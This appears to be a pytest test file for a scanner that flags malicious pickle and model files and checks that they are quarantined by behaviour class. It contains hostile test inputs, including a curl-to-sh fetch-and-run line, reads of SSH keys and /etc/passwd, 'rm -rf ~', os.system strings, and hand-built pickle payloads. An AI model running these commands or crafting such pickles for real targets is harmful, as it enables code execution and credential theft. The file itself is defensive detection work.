"""Issue 14: severity from behaviour, packs that name names, deny by behaviour class, decompress then decide.

Fixtures in ``tests/fixtures/pickles/policy`` were written by the real libraries
(``build_policy_fixtures.py``); each malicious one reaches a real function nobody had listed, and
its payload was confirmed with a recording unpickler. The expected rule of each follows from what
the function does (subprocess -> process, writes a path -> file system...), not from the scanner.
"""

from __future__ import annotations

import pickle
import struct
from pathlib import Path

import pytest

from mlgate.analyzers.core.findings import Severity
from mlgate.analyzers.core.policy import Verdict
from mlgate.analyzers.pickles.evidence import risky_text
from mlgate.analyzers.pickles.fx_code import fx_source_problem
from mlgate.analyzers.pickles.names import Tier, classify
from mlgate.analyzers.pickles.packs import PACKS, Allow, Pattern

from .helpers import FIXTURES, scan_bytes, verdict_of

POLICY = FIXTURES / "policy"
SEVERE = {Severity.MEDIUM, Severity.HIGH, Severity.CRITICAL}
EXEC, PROC, DYN, NEST, FILES, NET = (
    "MLG-PKL-001",
    "MLG-PKL-002",
    "MLG-PKL-005",
    "MLG-PKL-006",
    "MLG-PKL-007",
    ("MLG-PKL-008"),
)
UNKNOWN_CALL, RECONSTRUCTED, FX = "MLG-PKL-026", "MLG-PKL-012", "MLG-PKL-027"

# fixture -> (the rule its behaviour class calls for, text the message must show: what would run)
MALICIOUS = {
    "fx_exec_with_source.pkl": (EXEC, "os.system"),
    "fx_graph_module_code.pkl": (FX, "import os"),
    "dill_eval_repr.pkl": (EXEC, "mlgate-canary"),
    "transformers_dynamic_module.pkl": (NEST, "example.invalid"),
    "gensim_check_output.pkl": (PROC, "mlgate-canary"),
    "pandas_to_csv.pkl": (FILES, "mlgate-canary"),
    "numpy_tofile.pkl": (FILES, "mlgate-canary"),
    "torch_save_path.pkl": (FILES, "mlgate-canary"),
    "numpy_datasource_url.pkl": (NET, "example.invalid"),
    "gensim_load_url.pkl": (NEST, "example.invalid"),
    "loky_vendored_loads.pkl": (PROC, "mlgate-canary"),
    "numpy_format_impl_read_array.pkl": (NEST, "mlgate-canary"),
    "pandas_pickle_compat.pkl": (NEST, "mlgate-canary"),
    "unknown_callable_shell.pkl": (UNKNOWN_CALL, "mlgate-canary"),
    "allowed_class_method.pkl": (UNKNOWN_CALL, "LogisticRegression.set_params"),
    "gzip_named_model.safetensors": ("MLG-PKL-002", "mlgate-canary"),
    "zlib_named_weights.gguf": ("MLG-PKL-002", "mlgate-canary"),
}


def test_every_policy_fixture_has_an_expectation():
    assert {p.name for p in (POLICY / "malicious").iterdir()} == set(MALICIOUS)
    assert len(list((POLICY / "benign").iterdir())) >= 15


@pytest.mark.parametrize("name", sorted(p.name for p in (POLICY / "benign").iterdir()))
def test_benign_policy_fixture_is_approved_with_nothing_at_medium(name: str) -> None:
    verdict, findings, complete = verdict_of(POLICY / "benign" / name)
    severe = [f.to_dict() for f in findings if f.severity in SEVERE]
    assert verdict is Verdict.APPROVED and complete and not severe, severe


@pytest.mark.parametrize("name", sorted(MALICIOUS))
def test_malicious_policy_fixture_is_quarantined_saying_what_runs(name: str) -> None:
    rule, shows = MALICIOUS[name]
    verdict, findings, _ = verdict_of(POLICY / "malicious" / name)
    assert verdict is Verdict.QUARANTINED
    hits = [f for f in findings if f.rule == rule and f.severity in (Severity.HIGH, Severity.CRITICAL)]
    assert hits, [f.to_dict() for f in findings]
    assert any(shows in f.message for f in hits), [f.message for f in hits]


def test_compressed_pickle_keeps_its_extension_mismatch_finding():
    _, findings, _ = verdict_of(POLICY / "malicious" / "gzip_named_model.safetensors")
    assert {"MLG-CORE-006", "MLG-PKL-002"} <= {f.rule for f in findings}
    assert any("!" in f.location for f in findings if f.rule == "MLG-PKL-002")  # found inside the decoded child


# --- severity from behaviour ---------------------------------------------------------------------
def _su(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _sg(module: str, name: str) -> bytes:
    return _su(module) + _su(name) + b"\x93"


def _scan(tmp_path: Path, body: bytes) -> list:
    return scan_bytes(tmp_path, b"\x80\x04" + body + b".").findings


def test_unknown_callable_called_with_plain_arguments_is_high(tmp_path: Path) -> None:
    findings = _scan(tmp_path, _sg("acme_ml.layers", "make_layer") + b"(" + _su("relu") + b"K\x03tR")
    hit = [f for f in findings if f.rule == UNKNOWN_CALL]
    assert hit and hit[0].severity is Severity.HIGH
    assert "called with arguments the file chose, so high" in hit[0].message


@pytest.mark.parametrize(
    "argument",
    [
        "touch /tmp/mlgate-canary/x",
        "curl -s https://example.invalid | sh",
        "https://example.invalid/weights.bin",
        "/home/user/.ssh/authorized_keys",
        "import os; os.system('id')",
        "__import__('os').getcwd()",
    ],
)
def test_unknown_callable_called_with_code_shell_path_or_url_is_critical(tmp_path: Path, argument: str) -> None:
    findings = _scan(tmp_path, _sg("acme_ml.layers", "make_layer") + b"(" + _su(argument) + b"tR")
    hit = [f for f in findings if f.rule == UNKNOWN_CALL]
    assert hit and hit[0].severity is Severity.CRITICAL, [f.to_dict() for f in findings]
    assert "so critical" in hit[0].message


def test_unknown_class_only_reconstructed_stays_medium(tmp_path: Path) -> None:
    body = _sg("acme_ml.layers", "Block") + b")\x81" + b"}" + _su("command") + _su("touch /tmp/x") + b"sb"
    findings = _scan(tmp_path, body)
    assert [f.rule for f in findings if f.severity in SEVERE] == [RECONSTRUCTED]
    assert "only reconstructed" in findings[0].message and "so medium" in findings[0].message


def test_newobj_with_arguments_is_a_call(tmp_path: Path) -> None:
    findings = _scan(tmp_path, _sg("acme_ml.layers", "Block") + b"(" + _su("x") + b"t\x81")
    assert [f.rule for f in findings] == [UNKNOWN_CALL]


def test_dotted_method_of_an_allowed_class_is_a_method_call(tmp_path: Path) -> None:
    findings = _scan(tmp_path, _sg("torch.nn.modules.linear", "Linear.register_forward_hook") + b"(" + _su("x") + b"tR")
    hit = [f for f in findings if f.rule == UNKNOWN_CALL]
    assert hit and "unknown method" in hit[0].message and "a dotted name is a method" in hit[0].message


def test_getattr_to_an_allowlisted_name_is_quiet_but_other_getattr_is_not(tmp_path: Path) -> None:
    import datetime
    import zoneinfo

    benign = pickle.dumps(datetime.datetime(2024, 1, 1, tzinfo=zoneinfo.ZoneInfo("UTC")), protocol=4)
    assert not [f for f in scan_bytes(tmp_path, benign).findings if f.severity in SEVERE]
    evil = _sg("builtins", "getattr") + b"(" + _sg("zoneinfo", "ZoneInfo") + _su("from_file") + b"tR"
    rules = {f.rule for f in _scan(tmp_path, evil + b"(" + _su("/etc/passwd") + b"tR")}
    assert DYN in rules


def test_risky_text_recognises_code_shell_paths_and_urls_but_not_ordinary_values() -> None:
    for text in ("relu", "adam", "float32", "Hello, world.", "cuda:0", "runs/exp1", "model.safetensors", "x"):
        assert risky_text(text) == "", text
    for text in ("rm -rf ~", "https://a.invalid/x", "s3://bucket/key", "/etc/shadow", "exec('x')", "a=1; b=2"):
        assert risky_text(text), text


# --- packs that name names -----------------------------------------------------------------------
def test_no_allow_entry_is_a_whole_subtree() -> None:
    for pack in PACKS:
        for entry in pack.entries:
            assert isinstance(entry, (Allow, Pattern)) and entry.reason
            if isinstance(entry, Allow):
                assert entry.names, entry
            else:
                assert entry.names not in (".*", ".+", r"\w+"), entry  # a pattern must say what it matches


@pytest.mark.parametrize(
    ("module", "name", "tier"),
    [
        ("transformers.models.auto.configuration_auto", "get_class_from_dynamic_module", Tier.DENIED),
        ("transformers.models.bert.modeling_bert", "BertModel", Tier.ALLOWED),
        ("transformers.models.auto.modeling_auto", "AutoModel", Tier.UNKNOWN),
        ("transformers.models.bert.modeling_bert", "load_tf_weights_in_bert", Tier.UNKNOWN),
        ("torch.nn.modules.linear", "Linear", Tier.ALLOWED),
        ("torch.nn.modules.module", "register_module_forward_hook", Tier.UNKNOWN),
        ("torch._C", "Generator", Tier.ALLOWED),
        ("torch._C", "_jit_pass_inline", Tier.DENIED),
        ("dill._dill", "_eval_repr", Tier.DENIED),
        ("ray.cloudpickle", "loads", Tier.DENIED),
        ("srsly.cloudpickle.cloudpickle", "loads", Tier.DENIED),
        ("joblib.externals.loky.backend.reduction", "loads", Tier.DENIED),
        ("numpy.lib._npyio_impl", "load", Tier.DENIED),
        ("numpy._core.records", "fromfile", Tier.DENIED),
        ("gensim.models.keyedvectors", "KeyedVectors.load_word2vec_format", Tier.DENIED),
        ("pandas.core.frame", "DataFrame.to_pickle", Tier.DENIED),
        ("pandas.core.frame", "DataFrame.query", Tier.DENIED),
        ("zoneinfo", "ZoneInfo._unpickle", Tier.ALLOWED),
        ("zoneinfo", "ZoneInfo.from_file", Tier.DENIED),  # a method that reads another file
        ("zoneinfo", "ZoneInfo.clear_cache", Tier.STDLIB),
    ],
)
def test_tiers_follow_names_not_subtrees(module: str, name: str, tier: Tier) -> None:
    assert classify(module, name).tier is tier


# --- torch.fx generated source ------------------------------------------------------------------------
TORCH_IMPORTS = (
    "NoneType = type(None)\nfrom math import inf\nfrom torch import device\nimport torch\n"
    "import torch.fx._pytree as fx_pytree\nimport torch.utils._pytree as pytree"
)


def test_fx_source_torch_generates_passes() -> None:
    code = (
        '\n\n\ndef forward(self, x : torch.Tensor):\n    linear = getattr(self, "0")(x);  x = None\n'
        "    relu = torch.relu(linear);  linear = None\n    add = operator.add(relu, 1)\n"
        "    mul = torch._C._nn.linear(add, self.w);  add = None\n    return (mul, inf)\n"
    )
    assert fx_source_problem(TORCH_IMPORTS + "\nimport operator", code) == ""


@pytest.mark.parametrize(
    ("imports", "code"),
    [
        (TORCH_IMPORTS + "\nimport os", "def forward(self, x):\n    return x\n"),
        (TORCH_IMPORTS, "import os\ndef forward(self, x):\n    return x\n"),
        (TORCH_IMPORTS, "def forward(self, x):\n    torch.load('/tmp/x')\n    return x\n"),
        (TORCH_IMPORTS, "def forward(self, x):\n    return x.__class__.__base__\n"),
        (TORCH_IMPORTS, "def forward(self, x):\n    return getattr(torch, 'lo' + 'ad')(x)\n"),
        (TORCH_IMPORTS, "def forward(self, x):\n    return eval('x')\n"),
        (TORCH_IMPORTS, "def forward(self, x):\n    x.tofile('/tmp/x')\n    return x\n"),
        (TORCH_IMPORTS, "def forward(self, x):\n    for i in x:\n        pass\n    return x\n"),
        (TORCH_IMPORTS, "def forward(self, x):\n    torch.hub.load('a/b', 'c')\n    return x\n"),
    ],
)
def test_fx_source_torch_would_not_generate_fails(imports: str, code: str) -> None:
    assert fx_source_problem(imports, code)
